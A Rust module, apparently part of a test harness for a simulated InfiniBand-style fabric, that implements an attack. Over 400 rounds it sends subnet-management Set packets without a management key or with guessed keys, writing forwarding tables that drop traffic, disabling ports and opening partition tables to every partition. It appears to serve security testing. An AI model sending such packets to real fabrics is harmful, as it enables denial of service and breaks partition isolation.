//! Attack 1: Sets of subnet management to switches and to other hosts, along directed routes and by LID, without the key and with
//! guessed ones.

use rand::RngExt;
use rand_chacha::ChaCha8Rng;
use weft_fabric::enums::{PhysState, PortState};
use weft_fabric::{Lid, PortNum};
use weft_wire::Layout;
use weft_wire::sm::modifier::{BlockModifier, PKeyModifier, PortModifier};
use weft_wire::sm::{AttributeId, LinearFdb, PortInfo};
use weft_wire::smp::Smp;

use super::site::{STEP, Site};
use crate::campaign::bring_up::RunError;

/// Rounds, each at a moment of its own.
const ROUNDS: u32 = 400;

/// Without the key, and with guessed ones.
pub(super) fn attack(site: &mut Site) -> Result<Option<String>, RunError> {
    write(site, |rng| match rng.random_bool(0.5) {
        true => 0,
        false => rng.random(),
    })
}

/// Writes tables that drop everything, port states and partition tables.
pub(super) fn write(
    site: &mut Site,
    mut key: impl FnMut(&mut ChaCha8Rng) -> u64,
) -> Result<Option<String>, RunError> {
    site.note("Sets of LinearFDB, PortInfo and PartitionTable to the leaf, its neighbours and their hosts");
    let ports = site.ports_of_leaf();
    let out = site.attacker.port.1;
    for _ in 0..ROUNDS {
        let key = key(&mut site.rng);
        let beyond = ports[site.rng.random_range(0..ports.len())];
        let (attribute, modifier, payload) = match site.rng.random_range(0..3) {
            0 => blocked_table(),
            1 => dead_port(beyond),
            _ => every_partition(beyond),
        };
        let set = Smp::set(attribute, modifier, 1, key);
        match site.rng.random_range(0..3) {
            0 => site.send_smp(set, &[out], &payload)?,
            1 => site.send_smp(set, &[out, beyond], &payload)?,
            _ => site.send_smp_to(site.lid_of_leaf(), set, &payload)?,
        }
        site.pass(STEP)?;
    }
    Ok(site.written())
}

/// The first LIDs are unreachable.
fn blocked_table() -> (AttributeId, u32, Vec<u8>) {
    let modifier = BlockModifier {
        count: 1,
        ..BlockModifier::default()
    };
    let table = LinearFdb {
        lft_block: [LinearFdb::UNREACHABLE; 64],
    };
    (
        AttributeId::LINEAR_FDB,
        modifier.bits(),
        table.to_bytes().to_vec(),
    )
}

/// A port is disabled, and has another LID.
fn dead_port(port: PortNum) -> (AttributeId, u32, Vec<u8>) {
    let info = PortInfo {
        lid: Lid(0x77),
        port_state: PortState::DOWN,
        phys_state: PhysState::DISABLED,
        ..PortInfo::default()
    };
    let modifier = PortModifier::one(port).bits();
    (AttributeId::PORT_INFO, modifier, info.to_bytes().to_vec())
}

/// A port lets every partition through.
fn every_partition(port: PortNum) -> (AttributeId, u32, Vec<u8>) {
    let modifier = PKeyModifier {
        count: 1,
        port,
        block: 0,
    };
    (AttributeId::P_KEY_TABLE, modifier.bits(), vec![0xFF; 64])
}
